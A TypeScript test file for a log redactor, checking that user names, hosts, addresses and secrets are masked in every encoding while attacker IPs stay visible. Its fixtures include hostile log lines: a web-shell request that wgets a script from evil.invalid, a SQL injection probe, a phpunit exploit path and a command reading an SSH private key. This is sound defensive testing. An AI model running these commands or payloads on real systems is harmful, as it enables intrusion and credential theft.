import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { OwnWords } from './own-words.ts';
import { LeftOut, Redactor } from './redactor.ts';

const ALLOWED = new Set(['203.0.113.77', '2001:db8:bad::1']);

function redactorOf(
  users: readonly string[] = ['anna', 'svc-batch'],
  hosts: readonly string[] = ['gate', 'mill.example'],
) {
  const words = new OwnWords();
  for (const user of users) words.add(user, 'user');
  for (const host of hosts) words.add(host, 'host');
  return new Redactor({ words, allowed: ALLOWED });
}

const redact = (text: string): string => redactorOf().redact(text);
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const hex = (text: string): string => Buffer.from(text).toString('hex');

describe('what goes outside', () => {
  test.each([
    [
      'Nov 21 01:10:00 gate sshd[36]: Failed password for anna from 203.0.113.77 port 44022 ssh2',
      'Nov 21 01:10:00 [host-1] sshd[36]: Failed password for [user-1] from 203.0.113.77 port 44022 ssh2',
    ],
    ['Invalid user oracle from 203.0.113.77 port 52759', 'Invalid user oracle from 203.0.113.77 port 52759'],
    ['rhost=2001:db8:bad::1 user=anna', 'rhost=2001:db8:bad::1 user=[user-1]'],
    [
      'SRC=203.0.113.77 DST=198.51.100.9 MAC=00:16:3e:11:22:33:00:16:3e:44:55:66:08:00 PROTO=TCP DPT=22',
      'SRC=203.0.113.77 DST=[address-1] MAC=[address-2] PROTO=TCP DPT=22',
    ],
    [
      '"GET /login?user=x&password=hunter2&next=/ HTTP/1.1" 401',
      '"GET /login?user=x&password=[secret-1]&next=/ HTTP/1.1" 401',
    ],
    ['"GET /?q=%61nn%61 HTTP/1.1"', '"GET /?q=[user-1] HTTP/1.1"'],
    ['"GET /?q=%2561nna HTTP/1.1"', '"GET /?q=[user-1] HTTP/1.1"'],
    [String.raw`"GET /?q=\x61nna HTTP/1.1"`, '"GET /?q=[user-1] HTTP/1.1"'],
    ['"GET /?t%6fken%3Dabc%26x HTTP/1.1"', '"GET /?t%6fken%3D[secret-1]%26x HTTP/1.1"'],
    [`"GET /?q=${base64('login anna now')} HTTP/1.1"`, '"GET /?q=[secret-1] HTTP/1.1"'],
    [`"GET /?q=z${base64('password=x1')} HTTP/1.1"`, '"GET /?q=[secret-1] HTTP/1.1"'],
    [`"GET /?q=${base64(base64('login anna now'))} HTTP/1.1"`, '"GET /?q=[secret-1] HTTP/1.1"'],
    [`"GET /a/0x${hex('id anna now')} HTTP/1.1"`, '"GET /a/0x[secret-1] HTTP/1.1"'],
    [`"GET /a/f${hex('id anna now')} HTTP/1.1"`, '"GET /a/[secret-1] HTTP/1.1"'],
    ['Authorization: Basic dXNlcjpwYXNz, and more', 'Authorization: [secret-1]'],
    ['"Cookie: a=b; c=d" 200', '"Cookie: [secret-1]" 200'],
    ['{"password": "a b c", "x": 1}', '{"password": "[secret-1]", "x": 1}'],
    ['from mina@mill.example to x', 'from [mail-1] to x'],
    ['GET http://bob:pw@198.51.100.1/', 'GET http://[mail-1]/'],
    [
      'open() "/srv/www/shop/.env" failed (2: No such file), request: "GET /.env',
      'open() "[path-1]" failed (2: No such file), request: "GET /.env',
    ],
    ['cat /home/tomas/.ssh/id_rsa', 'cat [path-1]/.ssh/id_rsa'],
    ['host: "www.mill.example:443"', 'host: "[host-1]:443"'],
    ['to gate.mill.example, gate', 'to [host-1], [host-1]'],
    ['client: 10.1.2.3, client:fd00::7, [fd00::7]:443', 'client: [address-1], client:[address-2], [[address-2]]:443'],
    ['Mozilla/5.0 Chrome/120.0.0.0 Safari/537.36', 'Mozilla/5.0 Chrome/120.0.0.0 Safari/537.36'],
    ['at 01:10:00 2026-11-21T01:34:49.105061+00:00', 'at 01:10:00 2026-11-21T01:34:49.105061+00:00'],
    [
      'GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
      'GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
    ],
    [
      'GET /wp-content/plugins/x.php?cmd=wget+http://evil.invalid/a.sh',
      'GET /wp-content/plugins/x.php?cmd=wget+http://evil.invalid/a.sh',
    ],
    ["GET /?id=1'+UNION+SELECT+1,2,3--", "GET /?id=1'+UNION+SELECT+1,2,3--"],
    [
      '[6] [03044] [    ] [adam    ] [ssh:notty] [203.0.113.77] [203.0.113.77]',
      '[6] [03044] [    ] [[user-1]    ] [ssh:notty] [203.0.113.77] [203.0.113.77]',
    ],
    ['reset/AbCdEf0123456789AbCd9 x', 'reset/[secret-1] x'],
  ])('%s', (line, expected) => {
    expect(redact(line)).toBe(expected);
  });

  test('the same thing has the same placeholder in every text of a run', () => {
    const redactor = redactorOf();
    expect(redactor.redact('svc-batch and anna')).toBe('[user-1] and [user-2]');
    expect(redactor.redact('ANNA')).toBe('[user-2]');
  });

  test('is counted', () => {
    const leftOut = new LeftOut();
    redactorOf().redact('anna anna svc-batch at gate', leftOut);
    expect(leftOut.counts()).toEqual([
      { kind: 'user', different: 2, times: 3 },
      { kind: 'host', different: 1, times: 1 },
    ]);
  });

  test('a user whose name is a part of a placeholder', () => {
    expect(redactorOf(['user', 'host', '1']).redact('for user 1 at host')).toBe('for [user-1] [user-2] at [user-3]');
  });
});

const FORMS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase(),
  encodeURIComponent,
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join(''),
  (text) => [...Buffer.from(text)].map((byte) => `\\x${byte.toString(16).padStart(2, '0')}`).join(''),
  base64,
  hex,
  (text) => base64(base64(text)),
  (text) => base64(`xx${text}`),
  (text) => base64(`${text}: yes`).replaceAll('+', '-').replaceAll('/', '_'),
];
const secretName = fc.stringMatching(/^[a-z][a-z0-9_-]{4,14}[a-z]$/);
const around = fc.oneof(
  fc.constantFrom(' ', '/', '=', '"', "'", '%20', '&', '[', ': ', '\u200b', '\u001b[31m', 'ü'),
  fc.string({ maxLength: 12 }),
);

/** A text as every reader could read it. */
function readings(text: string): string {
  let all = text;
  let decoded = text;
  for (let round = 0; round < 3; round += 1) {
    decoded = decoded.replace(/%([0-9a-f]{2})|\\x([0-9a-f]{2})/gi, (_, a, b) =>
      String.fromCharCode(Number.parseInt(a ?? b, 16)),
    );
    all += `\n${decoded}`;
  }
  for (const [token] of text.matchAll(/[0-9a-f]{8,}/gi))
    for (const skip of [0, 1]) all += `\n${Buffer.from(token.slice(skip), 'hex').toString('latin1')}`;
  for (let round = 0, inner = text; round < 2; round += 1) {
    const tokens = [...inner.matchAll(/[A-Za-z0-9+/_-]{4,}={0,2}/g)].flatMap(([token]) =>
      [0, 1, 2, 3].map((skip) => token.slice(skip)),
    );
    inner = tokens.map((token) => Buffer.from(token, 'base64').toString('latin1')).join('\n');
    all += `\n${inner}`;
  }
  return all.toLowerCase();
}

test('no own name survives in any form, among any text', () => {
  fc.assert(
    fc.property(
      secretName,
      secretName,
      fc.constantFrom(...FORMS),
      around,
      around,
      (user, host, form, before, after) => {
        const redactor = redactorOf([user], [host]);
        const text = redactor.redact(
          `Failed password for ${before}${form(user)}${after} on ${form(host)} from 203.0.113.77`,
        );
        const read = readings(text);
        expect(read).not.toContain(user);
        expect(read).not.toContain(host);
      },
    ),
    { numRuns: 600 },
  );
});

test('short names do not survive as words', () => {
  fc.assert(
    fc.property(
      fc.stringMatching(/^[a-z]{1,5}$/),
      fc.constantFrom(' ', '/', '=', '"', '@', '_', '-', '.', '%2F'),
      (user, sign) => {
        const text = redactorOf([user], []).redact(`x9${sign}${user}${sign}x9`);
        expect(text.replaceAll(/\[[a-z]+-\d+\]/g, '')).not.toMatch(new RegExp(`(?<![a-z0-9])${user}(?![a-z0-9])`));
      },
    ),
  );
});

test('what was redacted once stays as it is, whatever it was', () => {
  const piece = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 20 }),
    fc.constantFrom(
      'anna',
      'gate',
      '[user-1]',
      '[user-',
      '-1]',
      'password=',
      'token:',
      '10.0.0.1',
      '::1',
      '%',
      '25',
      '61',
      'nna',
      '@',
      '"',
      ' ',
      'mill.example',
      '203.0.113.77',
      '.',
      base64('anna is in'),
    ),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
      const redactor = redactorOf();
      const once = redactor.redact(pieces.join(''));
      expect(redactor.redact(once)).toBe(once);
    }),
    { numRuns: 2000 },
  );
});

test('a long hostile line takes no long time, and is cut', () => {
  for (const unit of ['%25', 'a@', '=:', 'password=', '1.', '[user-1', '-p ', 'a', '0:', '\\x5cx5c'])
    expect(redact(unit.repeat(200_000 / unit.length)).length).toBeLessThan(40_000);
});
